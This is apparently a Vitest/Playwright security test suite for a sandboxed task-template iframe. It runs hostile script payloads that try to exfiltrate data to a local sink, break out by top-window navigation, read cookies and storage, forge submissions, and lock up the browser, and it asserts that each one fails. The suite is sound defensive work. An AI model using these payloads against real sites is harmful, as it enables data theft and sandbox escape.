import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import type { BrowserContext } from 'playwright-core'
import { startServed, type Served } from './served.ts'
import { LOADER, type Shown, showTemplate } from './template-harness.ts'

/** What a hostile template may try, and what becomes of it. */

let served: Served
let context: BrowserContext
let sink: Server
let sinkUrl: string
/** everything that reached another server */
const reached: string[] = []

beforeAll(async () => {
  served = await startServed()
  sink = createServer((request, response) => {
    reached.push(`${request.method} ${request.url}`)
    response.setHeader('access-control-allow-origin', '*')
    response.end('window.stolen = true')
  })
  sink.on('connection', () => reached.push('connection'))
  sink.listen(0, '127.0.0.1')
  await once(sink, 'listening')
  sinkUrl = `http://127.0.0.1:${(sink.address() as AddressInfo).port}`
  context = await served.as(await served.canut.signUp())
})
afterAll(async () => {
  await served?.close()
  sink?.close()
})
beforeEach(async () => {
  for (const page of context.pages()) await page.close()
  reached.length = 0
})

const FORM = '<crowd-form><crowd-input name="a" label="A" value="x"></crowd-input></crowd-form>'
const attack = (script: string, more = '') =>
  showTemplate(context, served.url, `${LOADER}${FORM}${more}<script>${script.replaceAll('SINK', sinkUrl)}</script>`)

/** The page around the frame is where it was, answers at once, and the honest part of the task still works. */
async function isHarmless(shown: Shown): Promise<boolean> {
  await shown.page.waitForTimeout(700)
  expect(shown.page.url()).toBe(`${served.url}/harness`)
  expect(context.pages()).toHaveLength(1)
  await shown.inside.getByRole('button', { name: 'Submit', exact: true }).click()
  expect(await shown.answer()).toMatchObject({ a: 'x' })
  expect(reached).toEqual([])
  await shown.page.close()
  return true
}

describe('calling out', () => {
  it.each([
    ['fetch', `fetch('SINK/fetch?' + document.title, { mode: 'no-cors' }).catch(() => {})`],
    ['XMLHttpRequest', `{ const x = new XMLHttpRequest(); x.open('GET', 'SINK/xhr'); try { x.send() } catch {} }`],
    ['sendBeacon', `navigator.sendBeacon('SINK/beacon', 'x')`],
    ['WebSocket', `try { new WebSocket('SINK/ws'.replace('http', 'ws')) } catch {}`],
    ['EventSource', `try { new EventSource('SINK/events') } catch {}`],
    ['an image', `new Image().src = 'SINK/img'`],
    ['a script', `document.head.append(Object.assign(document.createElement('script'), { src: 'SINK/js' }))`],
    ['import()', `import('SINK/module').catch(() => {})`],
    ['a stylesheet', `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'SINK/css' }))`],
    ['a prefetch', `document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'SINK/prefetch' }))`],
    [
      'a preload',
      `document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'image', href: 'SINK/preload' }))`,
    ],
    [
      'a prerender rule',
      `document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: '{"prefetch":[{"urls":["SINK/spec"]}]}' }))`,
    ],
    ['CSS', `document.body.style.background = 'url(SINK/css-image)'`],
    ['a font', `{ const f = new FontFace('x', 'url(SINK/font)'); f.load().catch(() => {}) }`],
    ['a video', `document.body.append(Object.assign(document.createElement('video'), { src: 'SINK/video', poster: 'SINK/poster' }))`],
    ['a frame', `document.body.append(Object.assign(document.createElement('iframe'), { src: 'SINK/frame' }))`],
    [
      'a frame of its own making',
      `document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<img src=SINK/srcdoc>' }))`,
    ],
    ['an object', `document.body.append(Object.assign(document.createElement('object'), { data: 'SINK/object' }))`],

    ['a ping', `{ const a = document.createElement('a'); a.href = '#'; a.ping = 'SINK/ping'; document.body.append(a); a.click() }`],
    ['a worker', `try { new Worker(URL.createObjectURL(new Blob(["fetch('SINK/worker')"]))) } catch {}`],
    [
      'WebRTC',
      `if (typeof RTCPeerConnection !== 'undefined') { const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + 'SINK'.slice(7) }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)) }`,
    ],
    [
      'WebRTC of a frame inside',
      `{ const f = document.createElement('iframe'); document.body.append(f); try { const P = f.contentWindow.RTCPeerConnection; if (P) { const p = new P({ iceServers: [{ urls: 'stun:' + 'SINK'.slice(7) }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)) } } catch {} }`,
    ],
    [
      'another base',
      `document.head.append(Object.assign(document.createElement('base'), { href: 'SINK/' })); new Image().src = 'relative'`,
    ],
  ])('by %s reaches nobody', async (_name, script) => {
    expect(await isHarmless(await attack(script))).toBe(true)
  })

  it.each([
    [
      'a form',
      `setTimeout(() => { const f = document.createElement('form'); f.action = 'SINK/form'; f.method = 'post'; document.body.append(f); f.submit() }, 300)`,
    ],
    [
      'a refresh',
      `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=SINK/refresh' }))`,
    ],
  ])('by %s reaches nobody, though the frame itself may be gone', async (_name, script) => {
    const shown = await attack(script)
    await shown.page.waitForTimeout(1500)
    expect(reached).toEqual([])
    expect(shown.page.url()).toBe(`${served.url}/harness`)
  })
})

describe('leaving', () => {
  it.each([
    ['the top window', `try { top.location = 'SINK/top' } catch {}`],
    ['the parent', `try { parent.location.href = 'SINK/parent' } catch {}`],
    [
      'a link to the top',
      `{ const a = document.createElement('a'); a.href = 'SINK/a'; a.target = '_top'; document.body.append(a); a.click() }`,
    ],
    [
      'a form to the top',
      `{ const f = document.createElement('form'); f.action = 'SINK/f'; f.target = '_top'; document.body.append(f); f.submit() }`,
    ],
    ['a new window', `window.open('SINK/open')`],
    [
      'a download',
      `{ const a = document.createElement('a'); a.href = 'data:text/plain,x'; a.download = 'x'; document.body.append(a); a.click() }`,
    ],
  ])('by %s does not happen', async (_name, script) => {
    expect(await isHarmless(await attack(script))).toBe(true)
  })

  it('by a dialog does not happen: what it says is in the page, little of it at once, and goes away', async () => {
    const shown = await attack(`confirm('x'); prompt('x'); for (let time = 0; time < 50; time++) alert('again ' + time)`)
    expect(await shown.inside.getByText(/^(x|again)/).count()).toBe(5)
    await shown.inside.getByRole('button', { name: 'OK' }).click()
    expect(await isHarmless(shown)).toBe(true)
  })

  it('by itself: the frame goes nowhere, the page says that the task does not answer, and it can be loaded again', async () => {
    const shown = await attack(`setTimeout(() => { location = 'SINK/self' }, 300)`)
    await expect.poll(() => shown.notice().catch(() => ''), { timeout: 25_000 }).toContain('does not answer')
    expect(reached).toEqual([])
    expect(shown.page.url()).toBe(`${served.url}/harness`)
    await shown.page.close()
  })

  it('by loading itself for ever ends after a few times', async () => {
    const shown = await attack(`setTimeout(() => location.reload(), 50)`)
    await expect.poll(() => shown.notice().catch(() => ''), { timeout: 25_000 }).toMatch(/left for another address|does not answer/)
    await shown.page.close()
  })
})

describe('reading', () => {
  it('the page around it, its cookies and its storage: there is nothing', async () => {
    const shown = await attack(`window.got = {}
      const attempt = (name, read) => { try { got[name] = String(read()) } catch (error) { got[name] = error.name } }
      attempt('parent', () => parent.document.body.innerHTML); attempt('top', () => top.document.cookie); attempt('cookie', () => document.cookie)
      attempt('local', () => localStorage.length); attempt('session', () => sessionStorage.length); attempt('db', () => indexedDB.open('x'))
      attempt('caches', () => caches.keys()); attempt('frames', () => parent.frames[0].document === document); attempt('origin', () => origin)
      attempt('worker', () => navigator.serviceWorker && navigator.serviceWorker.register('/x.js'))
      fetch('/api/v1/me', { credentials: 'include' }).then((r) => r.text()).then((t) => { got.api = t }, (e) => { got.api = e.name })`)
    await shown.page.waitForTimeout(500)
    const got = await (await shown.frame()).evaluate<Record<string, string>>('got')
    expect(got).toMatchObject({
      parent: 'SecurityError',
      top: 'SecurityError',
      cookie: 'SecurityError',
      local: 'SecurityError',
      session: 'SecurityError',
      origin: 'null',
      api: 'TypeError',
    })
    expect(got['db']).toMatch(/SecurityError|IDBOpenDBRequest/)
    expect(got['caches']).toMatch(/SecurityError|ReferenceError|Promise/)
    expect(await isHarmless(shown)).toBe(true)
  })
})

describe('answering', () => {
  it('twice, by whatever way, counts once', async () => {
    const shown = await attack(`document.addEventListener('all-crowd-elements-ready', () => { const f = document.querySelector('crowd-form')
      f.submit(); f.submit(); f._submitHelperForm(); f.reopen(); f._submitHelperForm(); f.reopen(); f.submit()
      f.dispatchEvent(new CustomEvent('canut-answer', { bubbles: true, detail: { answer: { a: 'forged' } } })) })`)
    expect(await shown.answer()).toEqual({ a: 'x' })
    await shown.page.waitForTimeout(400)
    expect((await shown.sent()).submissions).toHaveLength(1)
    await shown.page.close()
  })

  it('with a message that another window could send is not heard', async () => {
    const shown = await attack(`for (const canut of ['', location.hash.slice(1)]) for (const kind of ['answer', 'open', 'draft'])
      parent.postMessage({ canut, kind, sent: { answer: { a: 'forged' } }, page: 'x', entries: [] }, '*')`)
    expect(await isHarmless(shown)).toBe(true)
  })

  it.each([
    ['more than can be kept', `document.querySelector('crowd-input').value = 'x'.repeat(800000)`],
    [
      'what is no answer',
      `HTMLElement.prototype.toString.call; Object.defineProperty(document.querySelector('crowd-form').constructor.prototype, 'serialised', { get: () => ({ answer: [1, 2] }) })`,
    ],
  ])('with %s is refused, and said', async (_name, script) => {
    const shown = await attack(`addEventListener('load', () => { ${script} })`)
    await shown.page.waitForTimeout(300)
    await shown.inside.getByRole('button', { name: 'Submit', exact: true }).click()
    await expect.poll(() => shown.notice().catch(() => '')).toContain('more than can be kept')
    expect((await shown.sent()).submissions).toEqual([])
    await shown.page.close()
  })
})

describe('taking the browser', () => {
  it('by an endless loop: the page around it stays usable, says so, and offers to load it again', async () => {
    const shown = await attack(`setTimeout(() => { for (;;); }, 200)`)
    await shown.page.waitForTimeout(500)
    const started = performance.now()
    expect(await shown.page.evaluate(() => 1 + 1)).toBe(2)
    expect(performance.now() - started).toBeLessThan(3000)
    await expect.poll(() => shown.notice().catch(() => ''), { timeout: 25_000 }).toContain('does not answer')
    expect(await shown.page.getByRole('button', { name: 'Load the page again' }).isEnabled()).toBe(true)
    await shown.page.close()
  })

  it('by growing without end stops at a height', async () => {
    const shown = await attack(`setInterval(() => { document.body.style.height = (innerHeight + 500) + 'px' }, 10)`)
    await shown.page.waitForTimeout(2500)
    expect(await shown.page.locator('iframe').evaluate((frame) => frame.getBoundingClientRect().height)).toBeLessThanOrEqual(30_000)
    await shown.page.close()
  })
})
